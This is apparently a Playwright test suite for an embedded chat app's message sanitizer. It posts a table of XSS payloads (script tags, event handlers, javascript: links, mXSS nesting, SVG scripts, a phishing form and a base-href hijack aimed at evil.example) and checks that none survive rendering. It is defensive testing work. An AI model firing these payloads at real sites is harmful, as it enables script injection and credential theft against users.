import type { FrameLocator } from 'playwright-core';
import { EmbeddedPage } from '../testing/embeddedPage.js';
import { hear } from '../testing/portalVisit.js';
import { until } from '../../pod/testing/until.js';
import { SPEC_MS, START_MS, useBrowsers } from '../testing/useBrowsers.js';

type Shared = string | { text: object; entities?: object };

const RUN = 'window.hostile=true';
const dataUriOf = (type: string, content: string): string =>
  `data:${type};base64,${Buffer.from(content).toString('base64')}`;
const file = (name: string, dataUri: string): object => ({
  type: 'fdc3.fileAttachment',
  data: { name, dataUri },
});

/** What somebody might write to take over who reads it. */
const HOSTILE: Record<string, Shared> = {
  'a script': `<script>${RUN}</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  'a handler': `<img src=x onerror="${RUN}"><b onmouseover="${RUN}" onclick=${RUN}>b</b><details open ontoggle=${RUN}>`,
  'addresses with a script':
    `[a](javascript:${RUN}) <a href="javascript:${RUN}">b</a> <a href=" java\tscript:${RUN}">c</a> ` +
    `[d](data:text/html,<script>${RUN}</script>) [e](vbscript:x) ![f](javascript:${RUN}) <javascript:${RUN}>`,
  'something from elsewhere':
    '![a](https://evil.example/a.png) <img src="https://evil.example/b.png" srcset="https://evil.example/c.png 2x"> ' +
    '<link rel=stylesheet href=https://evil.example/d.css> <video src=https://evil.example/e.mp4 autoplay></video>',
  'its own style':
    '<style>body{display:none}</style><p style="position:fixed;inset:0" class="dialog" id="dialog-headline">x</p>',
  'a drawing': `<svg onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  'what browsers mend': `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  'a form':
    '<form action="https://evil.example/"><input name="password" autofocus><button formaction="javascript:x">Log in</button></form>',
  'another page': `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe><object data="javascript:${RUN}"></object><embed src=x><base href="https://evil.example/">`,
  'marks of the app': `<b data-testid="dialog-confirm" aria-label="Send" role="button" tabindex="0" contenteditable>b</b>`,
  'mentions in mentions':
    `@[@[x](email/a@b.example)](email/c@d.example) @["><img src=x onerror=${RUN}>](email/"onx=@b.example) ` +
    `@[<script>${RUN}</script>](email/a@b.example) @[x](javascript:${RUN})`,
  'buttons in buttons': {
    text: {
      'text/markdown':
        `§[§[x](id/a)](id/a) §[<img src=x onerror=${RUN}>](id/b) [§[x](id/a)](javascript:${RUN}) ` +
        `§[x](id/__proto__) §[x](id/constructor) §["onclick="${RUN}](id/none) @[§[x](id/a)](email/a@b.example)`,
    },
    entities: {
      a: {
        type: 'fdc3.fdc3Intent',
        data: {
          title: `<img src=x onerror="${RUN}">`,
          intent: 'ViewChart',
          context: { type: 'fdc3.nothing' },
        },
      },
    },
  },
  'files that run': {
    text: { 'text/markdown': 'Have a look' },
    entities: {
      page: file(`"><img src=x onerror=${RUN}>.html`, dataUriOf('text/html', `<script>${RUN}</script>`)),
      drawing: file(
        'x.svg',
        dataUriOf('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`),
      ),
      card: {
        type: 'fdc3.symphonyEntity',
        data: { title: `<img src=x onerror="${RUN}">`, url: `javascript:${RUN}` },
      },
    },
  },
  'plain text': { text: { 'text/plain': `<img src=x onerror="${RUN}"><script>${RUN}</script>` } },
};

// prettier-ignore
const BARE = [
  'b', 'blockquote', 'br', 'code', 'del', 'em', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'li', 'ol', 'p', 'pre', 's',
  'strong', 'table', 'tbody', 'td', 'th', 'thead', 'tr', 'u', 'ul',
];
/** Elements that the text of a message may have, with their attributes: those that the app itself makes have some. */
const ALLOWED: Record<string, readonly string[]> = {
  ...Object.fromEntries(BARE.map((name) => [name, []])),
  a: ['aria-disabled', 'href', 'rel', 'role', 'tabindex', 'target', 'title'],
  button: ['class', 'data-testid', 'tabindex', 'type'],
  div: ['aria-label', 'class', 'role', 'tabindex'],
  p: ['class="plain"'],
};
const ANYWHERE = 'script, style, form, input, iframe, object, embed, base, link, math, foreignObject, video';

/** What the sanitizer's parsing of such a text is complained of, in a document that is never shown. */
const WHILE_PARSING = /^(Applying inline style|Setting the document's base URI) /;

/** What there is in the messages that should not be, in words. */
function findForeign(main: FrameLocator): Promise<string[]> {
  return main.locator('body').evaluate(
    (body, { allowed, anywhere }) => {
      const texts = body.querySelectorAll('[data-testid=message] .message-text');
      const found: string[] = texts.length ? [] : ['no text of any message'];
      for (const element of [...texts].flatMap((text) => [...text.querySelectorAll('*')])) {
        const attributes = allowed[element.localName];
        if (!attributes) found.push(`<${element.localName}>`);
        for (const { name, value } of element.attributes) {
          const said = `${name}="${value}"`;
          const isAllowed = attributes?.some((each) => each === name || each === said);
          if (!isAllowed || (name === 'href' && !/^(https?|mailto|symphony):/.test(value))) found.push(said);
        }
      }
      for (const element of body.querySelectorAll('[data-testid=message] *')) {
        if (element.matches(anywhere)) found.push(`<${element.localName}> in a message`);
        for (const { name, value } of element.attributes)
          if (name.startsWith('on') || /^\s*(javascript|vbscript|data):/i.test(value))
            found.push(`${name}="${value}"`);
      }
      if (new URL(document.baseURI).origin !== location.origin) found.push(document.baseURI);
      return found;
    },
    { allowed: ALLOWED, anywhere: ANYWHERE },
  );
}

describe('A hostile message', () => {
  const browsers = useBrowsers({ keep: 'suite' });
  let alice: EmbeddedPage;
  let bob: EmbeddedPage;
  const askedElsewhere: string[] = [];

  beforeAll(async () => {
    const settings = { streamId: 'alice-bob', canClickExternalLinks: true, canClickInternalLinks: true };
    alice = await EmbeddedPage.rendered(browsers, 'alice', settings);
    bob = await EmbeddedPage.rendered(browsers, 'bob', { streamId: 'alice-bob' });
    alice.page.on('dialog', (dialog) => {
      askedElsewhere.push(`a ${dialog.type()}`);
      void dialog.dismiss();
    });
    alice.visitor.context.on('request', (request) => {
      if (request.url().includes('evil.example')) askedElsewhere.push(request.url());
    });
  }, START_MS);

  const post = (message: Shared): Promise<number> =>
    bob.main.locator('body').evaluate(async (_body, given) => {
      const response = await fetch('/api/streams/alice-bob/messages', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'X-Symphony-Embed': '1' },
        body: JSON.stringify({ message: given }),
      });
      return response.status;
    }, message);

  let marksMade = 0;

  /** Posts a message and then a harmless one: when that is there, so is the other. */
  async function postAndHear(message: Shared): Promise<number> {
    const status = await post(message);
    const mark = `After message ${++marksMade}`;
    await post(mark);
    await hear(alice.main, mark);
    return status;
  }

  for (const [what, message] of Object.entries(HOSTILE)) {
    it(
      `with ${what} does nothing to who reads it`,
      async () => {
        const complaintsBefore = alice.visitor.complaints.length;
        expect(await postAndHear(message)).toBeLessThan(300);
        expect(await findForeign(alice.main)).toEqual([]);
        // As the user would: over what can be pressed, and into it.
        await alice.main.locator('body').evaluate((body) => {
          for (const element of body.querySelectorAll('[data-testid=message] .message-text *'))
            for (const type of ['mouseover', 'pointerenter', 'focus', 'error', 'load'])
              element.dispatchEvent(new Event(type));
        });
        expect(await alice.main.locator('body').evaluate(() => 'hostile' in window)).toBeFalse();
        expect(askedElsewhere).toEqual([]);
        const complaints = alice.visitor.complaints.slice(complaintsBefore);
        expect(complaints.filter((complaint) => !WHILE_PARSING.test(complaint))).toEqual([]);
      },
      SPEC_MS,
    );
  }

  it(
    'is harmless in the list of chats as well',
    async () => {
      const page = await EmbeddedPage.rendered(browsers, 'alice', {}, { mode: 'collaboration' });
      for (const message of Object.values(HOSTILE)) {
        await post(message);
        const foreign = await page.main
          .getByTestId('chat-list')
          .evaluate(
            (list) => list.querySelectorAll('script, img[onerror], style, form, iframe, [onclick]').length,
          );
        expect(foreign).toBe(0);
      }
      const last = 'The last one for the list';
      await post(last);
      await until('the list shows it', () => page.main.getByTestId('chat-list').getByText(last).isVisible());
      expect(await page.main.locator('body').evaluate(() => 'hostile' in window)).toBeFalse();
    },
    SPEC_MS,
  );
});
